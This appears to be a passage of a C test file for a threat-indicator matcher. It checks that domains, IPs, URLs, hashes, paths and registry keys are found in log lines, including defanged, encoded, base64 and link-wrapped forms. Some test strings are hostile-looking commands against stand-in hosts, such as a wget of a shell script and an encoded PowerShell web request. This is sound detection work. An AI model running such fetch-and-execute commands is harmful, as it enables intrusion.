/*
 * test_truth.c -- what is found in a line and what is not, by example: one
 * table to read.  A row is a line of evidence and the hits it must give, each
 * with the listed value, the bytes it stands as, the veil and the port; every
 * other hit is an error.
 */
#include "test.h"

#include "match_kit.h"
#include "value/host.h"

static const struct listed indicators[] = {
	{ KIND_DOMAIN, "evil.com" },
	{ KIND_DOMAIN, "evil-site.net" },
	{ KIND_DOMAIN, "c2.deep.co.uk" },
	{ KIND_DOMAIN, "bad.duckdns.org" },
	{ KIND_DOMAIN, "xn--e1afmkfd.xn--p1ai" },
	{ KIND_DOMAIN, "xn--mnchen-3ya.de" },
	{ KIND_IPV4, "103.216.221.19" },
	{ KIND_IPV4, "1.2.3.4" },
	{ KIND_IPV4, "198.51.100.7", 25 },
	{ KIND_IPV6, "2001:db8::1" },
	{ KIND_IPV6, "2001:db8:1:2:3:4:5:6" },
	{ KIND_CIDR, "203.0.113.0/24" },
	{ KIND_CIDR, "10.1.0.0/16" },
	{ KIND_CIDR, "10.1.2.0/24" },
	{ KIND_CIDR, "2001:db8:ffff::/48" },
	{ KIND_URL, "http://share-host.net/u/evil/doc.zip" },
	{ KIND_URL, "https://bare-host.org/" },
	{ KIND_URL, "http://q-host.net/a?id=1" },
	{ KIND_URL, "http://port-host.net:8080/x" },
	{ KIND_URL, "http://5.6.7.8/bin.sh" },
	{ KIND_URL, "ftp://ftp-host.net/pub/x" },
	{ KIND_URL, "http://[2001:db8::99]/p" },
	{ KIND_URL, "http://t-host.net/~u/x" },
	{ KIND_URL, "http://xn--e1afmkfd.xn--p1ai/p" },
	{ KIND_EMAIL, "bob@mail-host.com" },
	{ KIND_MD5, "d41d8cd98f00b204e9800998ecf8427a" },
	{ KIND_SHA1, "da39a3ee5e6b4b0d3255bfef95601890afd8070a" },
	{ KIND_SHA256, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b85a" },
	{ KIND_SHA512, "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce"
		       "47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3a" },
	{ KIND_FILENAME, "update.exe" },
	{ KIND_FILENAME, "invoice 2020.pdf" },
	{ KIND_FILENAME, "libevil.so.6" },
	{ KIND_FILENAME, "~$lure.docm" },
	{ KIND_FILENAME, "dropperx" },
	{ KIND_PATH, "c:\\windows\\temp\\evil.dll" },
	{ KIND_PATH, "%appdata%\\roam\\stage.dll" },
	{ KIND_PATH, "/tmp/.x11/kworker.sh" },
	{ KIND_PATH, "/etc/cron.d/evilcron" },
	{ KIND_PATH, "c:\\programdata\\evildir" },
	{ KIND_REGISTRY_KEY, "hkey_local_machine\\software\\vendor\\run\\evilrun" },
	{ KIND_REGISTRY_KEY, "hkey_current_user\\software\\vendor\\evilkey" },
	{ KIND_MUTEX, "Global\\EvilMutex_42" },
	{ KIND_NAMED_PIPE, "evilpipe77" },
	{ KIND_USER_AGENT, "EvilAgent/1.0 (compatible)" },
	{ KIND_COMMAND_LINE, "evil.bat /q \"do it\"" },
	{ KIND_EMAIL_SUBJECT, "Vaccine results & more" },
	{ KIND_X509_SUBJECT, "CN=evil corp" },
	{ KIND_JA4, "t13d1516h2_8daaf6152771_b186095e22b6" },
	{ KIND_MAC, "aa:bb:cc:dd:ee:01" },
	{ KIND_X509_SHA1, "00112233445566778899aabbccddeeff00112233" },
};

struct expected {
	const char *value, *written;
	unsigned veil, port;
};

static const struct row {
	const char *text;
	struct expected hit[4];
} rows[] = {
	/* Hosts: at label boundaries, in any case, with all that may stand beside them. */
	{ "q evil.com A", { { "evil.com", "evil.com" } } },
	{ "evil.com", { { "evil.com", "evil.com" } } },
	{ "EVIL.CoM", { { "evil.com", "EVIL.CoM" } } },
	{ "www.evil.com", { { "evil.com", "evil.com" } } },
	{ "a.b.c.d.e.evil.com", { { "evil.com", "evil.com" } } },
	{ "evil.com/x", { { "evil.com", "evil.com" } } },
	{ "evil.com:443", { { "evil.com", "evil.com", 0, 443 } } },
	{ "evil.com:443/x", { { "evil.com", "evil.com", 0, 443 } } },
	{ "evil.com:99999", { { "evil.com", "evil.com" } } },
	{ "user@evil.com", { { "evil.com", "evil.com" } } },
	{ "evil.com.", { { "evil.com", "evil.com" } } },
	{ "It was evil.com. Then", { { "evil.com", "evil.com" } } },
	{ "(evil.com)", { { "evil.com", "evil.com" } } },
	{ "evil.com,evil-site.net;x", { { "evil.com", "evil.com" }, { "evil-site.net", "evil-site.net" } } },
	{ "*.evil.com", { { "evil.com", "evil.com" } } },
	{ "_dmarc.evil.com TXT", { { "evil.com", "evil.com" } } },
	{ "_evil.com_", { { "evil.com", "evil.com" } } },
	{ "-evil.com", { { "evil.com", "evil.com" } } },
	{ "host=\"evil.com\"", { { "evil.com", "evil.com" } } },
	{ "x.c2.deep.co.uk", { { "c2.deep.co.uk", "c2.deep.co.uk" } } },
	{ "bad.duckdns.org", { { "bad.duckdns.org", "bad.duckdns.org" } } },
	{ "\xe8\xae\xbf\xe9\x97\xae" "evil.com\xe4\xb8\x8b", { { "evil.com", "evil.com" } } },
	{ "notevil.com" },
	{ "x-evil.com" },
	{ "evil.com.example.org" },
	{ "evil.com-x.net" },
	{ "evil.comx" },
	{ "evil.co" },
	{ "evil-com" },
	{ "evil..com" },
	{ "evil . com" },
	{ "evil. com" },
	{ "\xc3\xa9vil.com \xc3\xa9" "evil.com" },
	{ "deep.co.uk" },
	{ "duckdns.org good.duckdns.org" },

	/* Escapes in front: the letter is glued to the name, but not in Windows paths. */
	{ "a\\nevil.com\\n", { { "evil.com", "evil.com" } } },
	{ "{\"m\":\"a\\tevil.com\"}", { { "evil.com", "evil.com" } } },
	{ "\\n1.2.3.4\\r\\n", { { "1.2.3.4", "1.2.3.4" } } },
	{ "x\\nbob@mail-host.com", { { "bob@mail-host.com", "bob@mail-host.com" } } },
	{ "h\\nd41d8cd98f00b204e9800998ecf8427a\\n", { { "d41d8cd98f00b204e9800998ecf8427a", "d41d8cd98f00b204e9800998ecf8427a" } } },
	{ "C:\\temp\\nevil.com" },
	{ "\\\\server\\nevil.com" },
	{ "%TEMP%\\tevil.com" },

	/* IPv4: exactly these four numbers. */
	{ "1.2.3.4", { { "1.2.3.4", "1.2.3.4" } } },
	{ "src=1.2.3.4 dst", { { "1.2.3.4", "1.2.3.4" } } },
	{ "001.002.003.004", { { "1.2.3.4", "001.002.003.004" } } },
	{ "1.2.3.4:25", { { "1.2.3.4", "1.2.3.4", 0, 25 } } },
	{ "1.2.3.4/32", { { "1.2.3.4", "1.2.3.4" } } },
	{ "1.2.3.4-5", { { "1.2.3.4", "1.2.3.4" } } },
	{ "1.2.3.4-1.2.3.9", { { "1.2.3.4", "1.2.3.4" } } },
	{ "1.2.3.4.", { { "1.2.3.4", "1.2.3.4" } } },
	{ "(1.2.3.4)", { { "1.2.3.4", "1.2.3.4" } } },
	{ "1.2.3.4_443", { { "1.2.3.4", "1.2.3.4" } } },
	{ "198.51.100.7:443", { { "198.51.100.7", "198.51.100.7", 0, 443 } } },
	{ "198.51.100.7", { { "198.51.100.7", "198.51.100.7" } } },
	{ "1.2.3.4.5" },
	{ "12345678.1.2.3.4" }, { "1234567890.1.2.3.4" },
	{ "0.1.2.3.4" },
	{ "11.2.3.4" },
	{ "1.2.3.45" },
	{ "1.2.3" },
	{ "v1.2.3.4" },
	{ "1.2.3.4a" },
	{ "1.2.3.0004" },
	{ "1.2.3.4.example.org" },
	{ "1.2.3.4-dsl.example.org" },
	{ "203.0.113.77", { { "203.0.113.0/24", "203.0.113.77" } } },
	{ "203.0.114.77 203.0.112.255" },
	{ "10.1.2.3:22", { { "10.1.0.0/16", "10.1.2.3", 0, 22 }, { "10.1.2.0/24", "10.1.2.3", 0, 22 } } },
	{ "10.1.3.3", { { "10.1.0.0/16", "10.1.3.3" } } },

	/* Backwards, as zones have them: a mention. */
	{ "19.221.216.103.in-addr.arpa", { { "103.216.221.19", "19.221.216.103.in-addr.arpa", VEIL_REVERSED } } },
	{ "19.221.216.103.zen.spamhaus.org", { { "103.216.221.19", "19.221.216.103.zen.spamhaus.org", VEIL_REVERSED } } },
	{ "1.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa", { { "2001:db8::1", "1.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa", VEIL_REVERSED } } },
	{ "103.216.221.19.in-addr.arpa" },
	{ "9.19.221.216.103.in-addr.arpa" },

	/* IPv6 by value; IPv4 inside it. */
	{ "2001:db8::1", { { "2001:db8::1", "2001:db8::1" } } },
	{ "2001:DB8:0:0:0:0:0:1", { { "2001:db8::1", "2001:DB8:0:0:0:0:0:1" } } },
	{ "2001:0db8:0000:0000:0000:0000:0000:0001", { { "2001:db8::1", "2001:0db8:0000:0000:0000:0000:0000:0001" } } },
	{ "[2001:db8::1]:443", { { "2001:db8::1", "2001:db8::1", 0, 443 } } },
	{ "2001:db8::1%eth0", { { "2001:db8::1", "2001:db8::1" } } },
	{ "2001:db8::1/128", { { "2001:db8::1", "2001:db8::1" } } },
	{ "peer 2001:db8::1: timeout", { { "2001:db8::1", "2001:db8::1" } } },
	{ "[IPv6:2001:db8::1]", { { "2001:db8::1", "2001:db8::1" } } },
	{ "2001:db8:1:2:3:4:5:6", { { "2001:db8:1:2:3:4:5:6", "2001:db8:1:2:3:4:5:6" } } },
	{ "2001:db8:ffff:1::9", { { "2001:db8:ffff::/48", "2001:db8:ffff:1::9" } } },
	{ "::ffff:1.2.3.4", { { "1.2.3.4", "::ffff:1.2.3.4", VEIL_EMBEDDED } } },
	{ "::ffff:67d8:dd13", { { "103.216.221.19", "::ffff:67d8:dd13", VEIL_EMBEDDED } } },
	{ "64:ff9b::67d8:dd13", { { "103.216.221.19", "64:ff9b::67d8:dd13", VEIL_EMBEDDED } } },
	{ "64:ff9b::103.216.221.19", { { "103.216.221.19", "64:ff9b::103.216.221.19", VEIL_EMBEDDED } } },
	{ "2001:db8::12 2001:db8::1:1 12001:db8::1" },
	{ "12:34:56 std::vector 00:11:22:33:44:55" },
	{ "mac aa:bb:cc:dd:ee:01 up", { { "aa:bb:cc:dd:ee:01", "aa:bb:cc:dd:ee:01" } } },
	{ "mac AA-BB-CC-DD-EE-01", { { "aa:bb:cc:dd:ee:01", "AA-BB-CC-DD-EE-01" } } },
	{ "mac aabb.ccdd.ee01", { { "aa:bb:cc:dd:ee:01", "aabb.ccdd.ee01" } } },
	{ "fp 00:11:22:33:44:55:66:77:88:99:AA:BB:CC:DD:EE:FF:00:11:22:33", { { "00112233445566778899aabbccddeeff00112233", "00:11:22:33:44:55:66:77:88:99:AA:BB:CC:DD:EE:FF:00:11:22:33" } } },

	/* URLs. */
	{ "GET http://share-host.net/u/evil/doc.zip 200", { { "http://share-host.net/u/evil/doc.zip", "http://share-host.net/u/evil/doc.zip" } } },
	{ "https://share-host.net/u/evil/doc.zip", { { "http://share-host.net/u/evil/doc.zip", "https://share-host.net/u/evil/doc.zip" } } },
	{ "share-host.net/u/evil/doc.zip", { { "http://share-host.net/u/evil/doc.zip", "share-host.net/u/evil/doc.zip" } } },
	{ "HTTP://SHARE-HOST.NET:80/u/evil/doc.zip", { { "http://share-host.net/u/evil/doc.zip", "HTTP://SHARE-HOST.NET:80/u/evil/doc.zip", 0, 80 } } },
	{ "https://u:p@share-host.net:443/u/evil/doc.zip", { { "http://share-host.net/u/evil/doc.zip", "https://u:p@share-host.net:443/u/evil/doc.zip", 0, 443 } } },
	{ "http://share-host.net./u/evil/doc.zip", { { "http://share-host.net/u/evil/doc.zip", "http://share-host.net./u/evil/doc.zip" } } },
	{ "http://share-host.net/u/./x/../evil/doc.zip", { { "http://share-host.net/u/evil/doc.zip", "http://share-host.net/u/./x/../evil/doc.zip" } } },
	{ "http://share-host.net/u/evil/doc.zip?x=1", { { "http://share-host.net/u/evil/doc.zip", "http://share-host.net/u/evil/doc.zip" } } },
	{ "http://share-host.net/u/evil/doc.zip#top", { { "http://share-host.net/u/evil/doc.zip", "http://share-host.net/u/evil/doc.zip" } } },
	{ "see http://share-host.net/u/evil/doc.zip.", { { "http://share-host.net/u/evil/doc.zip", "http://share-host.net/u/evil/doc.zip" } } },
	{ "a,http://share-host.net/u/evil/doc.zip,200", { { "http://share-host.net/u/evil/doc.zip", "http://share-host.net/u/evil/doc.zip" } } },
	{ "<http://share-host.net/u/evil/doc.zip>", { { "http://share-host.net/u/evil/doc.zip", "http://share-host.net/u/evil/doc.zip" } } },
	{ "http:\\/\\/share-host.net\\/u\\/evil\\/doc.zip", { { "http://share-host.net/u/evil/doc.zip", "http:\\/\\/share-host.net\\/u\\/evil\\/doc.zip", VEIL_ESCAPED } } },
	{ "http://t-host.net/%7Eu/x", { { "http://t-host.net/~u/x", "http://t-host.net/%7Eu/x" } } },
	{ "http://share-host.net/u/evil/doc.zipx http://share-host.net/u/evil http://share-host.net/" },
	{ "http://www.share-host.net/u/evil/doc.zip http://share-host.net/U/evil/doc.zip" },
	{ "http://share-host.net:8080/u/evil/doc.zip ftp://share-host.net/u/evil/doc.zip" },
	{ "https://bare-host.org", { { "https://bare-host.org/", "https://bare-host.org" } } },
	{ "https://bare-host.org/", { { "https://bare-host.org/", "https://bare-host.org/" } } },
	{ "CONNECT bare-host.org:443 HTTP/1.1", { { "https://bare-host.org/", "bare-host.org:443", 0, 443 } } },
	{ "query bare-host.org IN A", { { "https://bare-host.org/", "bare-host.org" } } },
	{ "https://bare-host.org/?q=1", { { "https://bare-host.org/", "https://bare-host.org/" } } },
	{ "https://bare-host.org/other joe@bare-host.org www.bare-host.org" },
	{ "http://q-host.net/a?id=1", { { "http://q-host.net/a?id=1", "http://q-host.net/a?id=1" } } },
	{ "http://q-host.net/a http://q-host.net/a?id=12 http://q-host.net/a?id=1&y=2" },
	{ "http://port-host.net:8080/x", { { "http://port-host.net:8080/x", "http://port-host.net:8080/x", 0, 8080 } } },
	{ "http://port-host.net/x http://port-host.net:8081/x" },
	{ "wget http://5.6.7.8/bin.sh;", { { "http://5.6.7.8/bin.sh", "http://5.6.7.8/bin.sh" } } },
	{ "http://5.6.7.8/other 5.6.7.8" },
	{ "ftp://ftp-host.net/pub/x", { { "ftp://ftp-host.net/pub/x", "ftp://ftp-host.net/pub/x" } } },
	{ "http://ftp-host.net/pub/x" },
	{ "http://[2001:db8::99]/p", { { "http://[2001:db8::99]/p", "http://[2001:db8::99]/p" } } },
	{ "http://[2001:DB8:0::99]:80/p", { { "http://[2001:db8::99]/p", "http://[2001:DB8:0::99]:80/p", 0, 80 } } },

	/* Mail addresses: this mailbox, not one that ends like it. */
	{ "from=<bob@mail-host.com>", { { "bob@mail-host.com", "bob@mail-host.com" } } },
	{ "mailto:Bob@Mail-Host.com", { { "bob@mail-host.com", "Bob@Mail-Host.com" } } },
	{ "xbob@mail-host.com a.bob@mail-host.com b+bob@mail-host.com bob@x.mail-host.com mail-host.com" },

	/* Digests: whole runs of digits, in any case. */
	{ "MD5=D41D8CD98F00B204E9800998ECF8427A,x", { { "d41d8cd98f00b204e9800998ecf8427a", "D41D8CD98F00B204E9800998ECF8427A" } } },
	{ "virusshare_d41d8cd98f00b204e9800998ecf8427a.bin", { { "d41d8cd98f00b204e9800998ecf8427a", "d41d8cd98f00b204e9800998ecf8427a" } } },
	{ "id%3Dd41d8cd98f00b204e9800998ecf8427a%26", { { "d41d8cd98f00b204e9800998ecf8427a", "d41d8cd98f00b204e9800998ecf8427a" } } },
	{ "sha1:da39a3ee5e6b4b0d3255bfef95601890afd8070a", { { "da39a3ee5e6b4b0d3255bfef95601890afd8070a", "da39a3ee5e6b4b0d3255bfef95601890afd8070a" } } },
	{ "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b85a", { { "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b85a", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b85a" } } },
	{ "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3a", { { "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3a", "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3a" } } },
	{ "d41d8cd98f00b204e9800998ecf8427a0 0d41d8cd98f00b204e9800998ecf8427a d41d8cd98f00b204e9800998ecf8427ax" },

	/* File names: whole tokens between separators. */
	{ "C:\\Users\\x\\update.exe", { { "update.exe", "update.exe" } } },
	{ "\"C:\\\\Temp\\\\UPDATE.EXE\"", { { "update.exe", "UPDATE.EXE" } } },
	{ "/opt/update.exe --now", { { "update.exe", "update.exe" } } },
	{ "filename=\"update.exe\"; size", { { "update.exe", "update.exe" } } },
	{ "update.exe.", { { "update.exe", "update.exe" } } },
	{ "update.exe:Zone.Identifier", { { "update.exe", "update.exe" } } },
	{ "http://good.org/dl/update.exe?x=1", { { "update.exe", "update.exe" } } },
	{ "a%5Cupdate.exe%22", { { "update.exe", "update.exe" } } },
	{ "xupdate.exe my-update.exe x.update.exe update.exe.bak update.exe~ ~update.exe +update.exe" },
	{ "Content: invoice 2020.pdf", { { "invoice 2020.pdf", "invoice 2020.pdf" } } },
	{ "/in/Invoice 2020.PDF", { { "invoice 2020.pdf", "Invoice 2020.PDF" } } },
	{ "/in/Invoice%202020.PDF", { { "invoice 2020.pdf", "Invoice%202020.PDF", VEIL_PERCENT } } },
	{ "xinvoice 2020.pdf 2020.pdf invoice 22020.pdf" },
	{ "/usr/lib/libevil.so.6", { { "libevil.so.6", "libevil.so.6" } } },
	{ "libevil.so.60 libevil.so.6.1" },
	{ "C:\\~$lure.docm", { { "~$lure.docm", "~$lure.docm" } } },
	{ "$lure.docm lure.docm" },
	{ "/usr/bin/dropperx -d", { { "dropperx", "dropperx" } } },
	{ "dropperxy my-dropperx dropperx.txt" },

	/* Paths: whole, at a left boundary. */
	{ "C:\\Windows\\Temp\\evil.dll,Start", { { "c:\\windows\\temp\\evil.dll", "C:\\Windows\\Temp\\evil.dll" } } },
	{ "\"C:\\\\Windows\\\\Temp\\\\evil.dll\"", { { "c:\\windows\\temp\\evil.dll", "C:\\\\Windows\\\\Temp\\\\evil.dll", VEIL_ESCAPED } } },
	{ "file:///C:/Windows/Temp/evil.dll", { { "c:\\windows\\temp\\evil.dll", "C:/Windows/Temp/evil.dll" } } },
	{ "D:\\Windows\\Temp\\evil.dll C:\\Windows\\Temp\\evil.dll.mui C:\\Windows\\Temp\\x\\evil.dll" },
	{ "C:\\Users\\eve\\AppData\\Roaming\\Roam\\stage.dll", { { "%appdata%\\roam\\stage.dll", "\\AppData\\Roaming\\Roam\\stage.dll" } } },
	{ "%APPDATA%\\Roam\\stage.dll", { { "%appdata%\\roam\\stage.dll", "%APPDATA%\\Roam\\stage.dll" } } },
	{ "C:\\Roam\\stage.dll" },
	{ "exec /tmp/.x11/kworker.sh &", { { "/tmp/.x11/kworker.sh", "/tmp/.x11/kworker.sh" } } },
	{ "/var/tmp/.x11/kworker.sh /tmp/.x11/kworker.sh2" },
	{ "cat /etc/cron.d/evilcron", { { "/etc/cron.d/evilcron", "/etc/cron.d/evilcron" } } },
	{ "\"\\/etc\\/cron.d\\/evilcron\"", { { "/etc/cron.d/evilcron", "/etc\\/cron.d\\/evilcron", VEIL_ESCAPED } } },
	{ "/x/etc/cron.d/evilcron /etc/cron.d/evilcron2" },
	{ "C:\\ProgramData\\EvilDir\\a.txt", { { "c:\\programdata\\evildir", "C:\\ProgramData\\EvilDir" } } },
	{ "C:\\ProgramData\\EvilDirs C:\\ProgramData\\EvilDir.old" },

	/* Plain texts: whole words, in any case, as JSON and the registry's tools write them. */
	{ "HKLM\\SOFTWARE\\Vendor\\Run\\EvilRun", { { "hkey_local_machine\\software\\vendor\\run\\evilrun", "HKLM\\SOFTWARE\\Vendor\\Run\\EvilRun" } } },
	{ "HKEY_LOCAL_MACHINE\\\\Software\\\\Vendor\\\\Run\\\\EvilRun\\\\x", { { "hkey_local_machine\\software\\vendor\\run\\evilrun", "HKEY_LOCAL_MACHINE\\\\Software\\\\Vendor\\\\Run\\\\EvilRun", VEIL_ESCAPED } } },
	{ "\\REGISTRY\\MACHINE\\SOFTWARE\\Vendor\\Run\\EvilRun", { { "hkey_local_machine\\software\\vendor\\run\\evilrun", "\\REGISTRY\\MACHINE\\SOFTWARE\\Vendor\\Run\\EvilRun" } } },
	{ "HKU\\S-1-5-21-7\\Software\\Vendor\\EvilKey", { { "hkey_current_user\\software\\vendor\\evilkey", "\\Software\\Vendor\\EvilKey" } } },
	{ "HKLM\\SOFTWARE\\Vendor\\Run\\EvilRun2" },
	{ "mutex Global\\EvilMutex_42.", { { "Global\\EvilMutex_42", "Global\\EvilMutex_42" } } },
	{ "\"global\\\\evilmutex_42\"", { { "Global\\EvilMutex_42", "global\\\\evilmutex_42", VEIL_ESCAPED } } },
	{ "Global\\EvilMutex_421 EvilMutex_42" },
	{ "\\\\.\\pipe\\evilpipe77", { { "evilpipe77", "evilpipe77" } } },
	{ "xevilpipe77 evilpipe777" },
	{ "\"EvilAgent/1.0 (compatible)\"", { { "EvilAgent/1.0 (compatible)", "EvilAgent/1.0 (compatible)" } } },
	{ "EvilAgent/1.0  (compatible)", { { "EvilAgent/1.0 (compatible)", "EvilAgent/1.0  (compatible)" } } },
	{ "EvilAgent/1.1 (compatible)" },
	{ "cmd evil.bat /q \"do it\"", { { "evil.bat /q \"do it\"", "evil.bat /q \"do it\"" } } },
	{ "{\"c\":\"evil.bat /q \\\"do it\\\"\"}", { { "evil.bat /q \"do it\"", "evil.bat /q \\\"do it\\\"", VEIL_ESCAPED } } },
	{ "Subject: VACCINE results &amp; more", { { "Vaccine results & more", "VACCINE results &amp; more", VEIL_ESCAPED } } },
	{ "subject=CN=Evil Corp, O=x", { { "CN=evil corp", "CN=Evil Corp" } } },
	{ "CN=Evil Corporation" },
	{ "ja4=t13d1516h2_8daaf6152771_b186095e22b6", { { "t13d1516h2_8daaf6152771_b186095e22b6", "t13d1516h2_8daaf6152771_b186095e22b6" } } },

	/* Defanged. */
	{ "evil[.]com", { { "evil.com", "evil[.]com", VEIL_DEFANGED } } },
	{ "www[.]evil[.]com", { { "evil.com", "evil[.]com", VEIL_DEFANGED } } },
	{ "evil(dot)com", { { "evil.com", "evil(dot)com", VEIL_DEFANGED } } },
	{ "evil[dot]com,", { { "evil.com", "evil[dot]com", VEIL_DEFANGED } } },
	{ "evil{.}com", { { "evil.com", "evil{.}com", VEIL_DEFANGED } } },
	{ "evil[.com", { { "evil.com", "evil[.com", VEIL_DEFANGED } } },
	{ "1.2.3[.]4", { { "1.2.3.4", "1.2.3[.]4", VEIL_DEFANGED } } },
	{ "1[.]2[.]3[.]4", { { "1.2.3.4", "1[.]2[.]3[.]4", VEIL_DEFANGED } } },
	{ "bob[@]mail-host[.]com", { { "bob@mail-host.com", "bob[@]mail-host[.]com", VEIL_DEFANGED } } },
	{ "hxxp://share-host.net/u/evil/doc.zip", { { "http://share-host.net/u/evil/doc.zip", "hxxp://share-host.net/u/evil/doc.zip", VEIL_DEFANGED } } },
	{ "hxxps[:]//share-host[.]net/u/evil/doc.zip", { { "http://share-host.net/u/evil/doc.zip", "hxxps[:]//share-host[.]net/u/evil/doc.zip", VEIL_DEFANGED } } },
	{ "evil[1]com evil[]com a[0].evil_com" },

	/* Percent-encoded, once and twice. */
	{ "u=http%3A%2F%2Fshare-host.net%2Fu%2Fevil%2Fdoc.zip&x", { { "http://share-host.net/u/evil/doc.zip", "http%3A%2F%2Fshare-host.net%2Fu%2Fevil%2Fdoc.zip", VEIL_PERCENT } } },
	{ "x=%2Fevil.com", { { "evil.com", "evil.com" } } },
	{ "x=%252Fevil.com", { { "evil.com", "evil.com" } } },
	{ "x=http%253A%252F%252Fevil%252Ecom%252F", { { "evil.com", "evil%252Ecom", VEIL_PERCENT } } },
	{ "http://%65vil.com/", { { "evil.com", "%65vil.com", VEIL_PERCENT } } },
	{ "evil%2ecom", { { "evil.com", "evil%2ecom", VEIL_PERCENT } } },
	{ "bob%40mail-host.com", { { "bob@mail-host.com", "bob%40mail-host.com", VEIL_PERCENT } } },
	{ "LIKE '%evil.com%'", { { "evil.com", "evil.com" } } },
	{ "%6Eotevil.com 100%25evil" },

	/* Escapes of JSON and C. */
	{ "evil\\u002ecom", { { "evil.com", "evil\\u002ecom", VEIL_ESCAPED } } },
	{ "\\u003cevil.com\\u003e", { { "evil.com", "evil.com" } } },
	{ "http:\\u002f\\u002fevil.com", { { "evil.com", "evil.com" } } },
	{ "\\x2fevil.com", { { "evil.com", "evil.com" } } },
	{ "\\x65vil.com", { { "evil.com", "\\x65vil.com", VEIL_ESCAPED } } },
	{ "\\u006eotevil.com" },

	/* International names. */
	{ "xn--e1afmkfd.xn--p1ai", { { "xn--e1afmkfd.xn--p1ai", "xn--e1afmkfd.xn--p1ai" }, } },
	{ "www.\xd0\xbf\xd1\x80\xd0\xb8\xd0\xbc\xd0\xb5\xd1\x80.\xd1\x80\xd1\x84 x", { { "xn--e1afmkfd.xn--p1ai", "\xd0\xbf\xd1\x80\xd0\xb8\xd0\xbc\xd0\xb5\xd1\x80.\xd1\x80\xd1\x84", VEIL_IDNA } } },
	{ "http://\xd0\x9f\xd0\xa0\xd0\x98\xd0\x9c\xd0\x95\xd0\xa0.\xd1\x80\xd1\x84/p", { { "http://xn--e1afmkfd.xn--p1ai/p", "http://\xd0\x9f\xd0\xa0\xd0\x98\xd0\x9c\xd0\x95\xd0\xa0.\xd1\x80\xd1\x84/p", VEIL_IDNA }, { "xn--e1afmkfd.xn--p1ai", "\xd0\x9f\xd0\xa0\xd0\x98\xd0\x9c\xd0\x95\xd0\xa0.\xd1\x80\xd1\x84", VEIL_IDNA } } },
	{ "m\xc3\xbcnchen.de", { { "xn--mnchen-3ya.de", "m\xc3\xbcnchen.de", VEIL_IDNA } } },
	{ "m%C3%BCnchen.de", { { "xn--mnchen-3ya.de", "m%C3%BCnchen.de", VEIL_PERCENT | VEIL_IDNA } } },
	{ "\xef\xbd\x85vil\xe3\x80\x82""com", { { "evil.com", "\xef\xbd\x85vil\xe3\x80\x82""com", VEIL_IDNA } } },
	{ "\xd0\xb0\xd0\xbf\xd1\x80\xd0\xb8\xd0\xbc\xd0\xb5\xd1\x80.\xd1\x80\xd1\x84" },

	/* Link wrappers. */
	{ "https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.com%2Fx&data=05", { { "evil.com", "evil.com", VEIL_WRAPPED } } },
	{ "https://eur01.safelinks.protection.outlook.com/?url=http%3A%2F%2Fshare-host.net%2Fu%2Fevil%2Fdoc.zip&data=05", { { "http://share-host.net/u/evil/doc.zip", "http%3A%2F%2Fshare-host.net%2Fu%2Fevil%2Fdoc.zip", VEIL_WRAPPED | VEIL_PERCENT } } },
	{ "https://urldefense.proofpoint.com/v2/url?u=http-3A__evil-2Dsite.net_doc.html&d=x", { { "evil-site.net", "evil-2Dsite.net", VEIL_WRAPPED } } },
	{ "https://urldefense.com/v3/__http://share-host.net/u/evil/doc.zip__;!!abc", { { "http://share-host.net/u/evil/doc.zip", "http://share-host.net/u/evil/doc.zip", VEIL_WRAPPED } } },
	{ "https:\\/\\/urldefense.com\\/v3\\/__http:\\/\\/share-host.net\\/u\\/evil\\/doc.zip__;!!abc", { { "http://share-host.net/u/evil/doc.zip", "http:\\/\\/share-host.net\\/u\\/evil\\/doc.zip", VEIL_WRAPPED | VEIL_ESCAPED } } },
	{ "https://www.google.com/url?q=http://share-host.net/u/evil/doc.zip&sa=D", { { "http://share-host.net/u/evil/doc.zip", "http://share-host.net/u/evil/doc.zip", VEIL_WRAPPED } } },
	{ "https://l.facebook.com/l.php?u=https%3A%2F%2Fevil.com&h=AT", { { "evil.com", "evil.com", VEIL_WRAPPED } } },
	{ "https://secure-web.cisco.com/1abc/https%3A%2F%2Fevil.com", { { "evil.com", "evil.com", VEIL_WRAPPED } } },
	{ "https://linkprotect.cudasvc.com/url?a=https%3a%2f%2fevil.com%2fp&c=E", { { "evil.com", "evil.com", VEIL_WRAPPED } } },
	{ "https://www.google.com/search?q=evil.com", { { "evil.com", "evil.com" } } },

	/* Base64: ASCII, UTF-16LE, both alphabets, base64 inside base64. */
	{ "x=aHR0cDovL2V2aWwuY29tL2E=", { { "evil.com", "2V2aWwuY29t", VEIL_BASE64 } } },
	{ "/r/aHR0cDovL2V2aWwuY29tL2E", { { "evil.com", "2V2aWwuY29t", VEIL_BASE64 } } },
	{ "powershell -enc aQB3AHIAIABlAHYAaQBsAC4AYwBvAG0A", { { "evil.com", "BlAHYAaQBsAC4AYwBvAG0A", VEIL_BASE64 | VEIL_UTF16 } } },
	{ "YUhSMGNEb3ZMMlYyYVd3dVkyOXRMMkU9", { { "evil.com", "MlYyYVd3dVkyOXR", VEIL_BASE64 } } },
	{ "Pz8-fnE9aHR0cDovL2V2aWwuY29tLz8_Pg==", { { "evil.com", "2V2aWwuY29t", VEIL_BASE64 } } },
	{ "aHR0cDovL2dvb2Qub3JnL2E=" },

	/* The Windows DNS debug log. */
	{ "UDP Snd A (3)www(4)evil(3)com(0)", { { "evil.com", "evil(3)com", VEIL_LABELS } } },
	{ "(4)evil(3)com(0)", { { "evil.com", "evil(3)com", VEIL_LABELS } } },
